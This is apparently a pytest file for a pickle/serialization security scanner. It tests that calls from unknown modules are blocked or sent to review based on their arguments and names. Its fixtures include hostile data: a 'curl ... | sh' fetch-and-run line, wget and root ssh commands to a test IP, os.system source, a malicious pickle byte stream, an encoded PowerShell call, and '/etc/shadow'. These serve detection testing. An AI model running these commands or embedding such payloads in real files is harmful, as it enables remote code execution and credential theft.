"""Callables of modules that exist in no list: what they are handed, or their own name, gives them away."""

from typing import Any

import pytest

from scanner.finding import Verdict
from tests.hostile.scanning import blocked_for, scan
from tests.recipes.streams import Build, Call, Global, Instance, New, Object, call, function, stream

SYSTEM = Global("os", "system")
BLOCKED: dict[str, tuple[Any, ...]] = {
    "command line": ("curl http://192.0.2.1/x | sh",),
    "argument list": (["sh", "-c", "id"],),
    "command line of a host": ("wget 192.0.2.1/x",),
    "login": ("ssh root@192.0.2.1",),
    "source": ("import os\nos.system('id')",),
    "source as bytes": (b"__import__('os').system('id')",),
    "pickle": (b"\x80\x04cos\nsystem\n.",),
    "callable": (SYSTEM,),
    "callable inside": ({"hooks": [SYSTEM]},),
    "PowerShell": ("powershell -enc AAAA",),
}
REVIEW: dict[str, tuple[Any, ...]] = {
    "host and port": ("192.0.2.1", 4444),
    "host and port in a pair": (("node.example", 443),),
    "URL": ("https://host.example/x",),
    "share": ("\\\\192.0.2.1\\share\\x",),
    "secret": ("/etc/shadow",),
    "name of a function": ("os.system",),
    "name of an entry point": ("os:system",),
    "module and function": ("subprocess", "Popen"),
    "script": ("/tmp/a.sh",),
    "library": ("/tmp/a.so",),
    "source that does nothing yet": ("def f():\n    return 1\n",),
    "glue": (Global("builtins", "getattr"),),
}
TELLING_NAMES = ("zorble.exec", "zorble.io.load_state", "zorble.run_command", "zorble.Popen", "a.b.writeFile")


@pytest.mark.parametrize("what", BLOCKED)
def test_damning_arguments_block_whatever_the_name_and_the_way_of_calling(what: str) -> None:
    args = BLOCKED[what]
    for made in (
        call("zorble.frob", *args),
        Object(function("zorble.Frob"), args),
        Instance("zorble", "F", args),
    ):
        report = scan(stream(made, 4))
        assert (report.failure, report.verdict) == (None, Verdict.BLOCKED), (made, report.findings)


@pytest.mark.parametrize("what", REVIEW)
def test_telling_arguments_ask_for_review(what: str) -> None:
    report = scan(stream(call("zorble.frob", *REVIEW[what]), 4))
    assert (report.failure, report.verdict) == (None, Verdict.REVIEW), report.findings


@pytest.mark.parametrize("name", TELLING_NAMES)
def test_a_name_that_says_what_it_does_asks_for_review(name: str) -> None:
    assert scan(stream(call(name, "x"), 4)).verdict is Verdict.REVIEW


ORDINARY: dict[str, Any] = {
    "a line of a file": call("zorble.Frame", "train.py", 120),
    "a version": call("zorble.Version", "1.2.3.4"),
    "words": call("zorble.Label", "sort by date"),
    "a size": call("zorble.Size", "width", 4444),
    "state": Build(New(function("zorble.Config"), ()), {
        "script": "/home/u/train.py", "data": "https://host.example/d.csv", "key": Global("builtins", "sorted"),
        "function": "torch.load",
    }),
}  # fmt: skip


@pytest.mark.parametrize("what", ORDINARY)
def test_ordinary_objects_of_unknown_classes_are_noted(what: str) -> None:
    report = scan(stream(ORDINARY[what], 4))
    assert (report.failure, report.verdict) == (None, Verdict.NOTE), report.findings


def test_a_command_that_an_object_keeps_does_not_block() -> None:
    made = Build(New(function("zorble.Config"), ()), {"command": "python train.py --epochs 3"})
    assert scan(stream(made, 4)).verdict is Verdict.REVIEW
    made = Build(New(function("zorble.Config"), ()), {"command": SYSTEM})
    assert scan(stream(made, 4)).verdict is Verdict.BLOCKED


# Members of libraries that are vouched for as a whole, which read, write, load or evaluate.
IN_VOUCHED_FAMILIES = (
    "pandas.core.frame.DataFrame.to_pickle", "pandas.core.frame.DataFrame.query", "scipy.sparse.save_npz",
    "numpy.ndarray.tofile", "statsmodels.base.model.Results.load", "lightgbm.basic.Booster.save_model",
    "attr.make_class", "setuptools.setup", "mimetypes.init", "sklearn.feature_extraction.text.CountVectorizer.fit",
)  # fmt: skip


@pytest.mark.parametrize("name", IN_VOUCHED_FAMILIES)
def test_a_family_does_not_vouch_for_what_it_is_not_about(name: str) -> None:
    assert scan(stream(call(name, "x", "/tmp/x"), 4)).verdict in (Verdict.REVIEW, Verdict.BLOCKED)


FAMILY = ("docker.models.containers", "Container")


def test_an_object_that_nobody_initialises_is_not_what_its_package_does():
    """A row about a whole package is about what its functions run, and objects that are called."""
    kind = Global(*FAMILY)
    made = Build(New(kind, ()), {"attrs": {"Id": "1"}})
    assert scan(stream(made)).verdict is Verdict.REVIEW
    assert "code-execution" in blocked_for(scan(stream(Call(kind, ("run",)))))


def test_what_makes_a_process_makes_one_however_it_is_made():
    made = New(Global("subprocess", "Popen"), (["id"],))
    assert scan(stream(made)).verdict is not Verdict.CLEAN
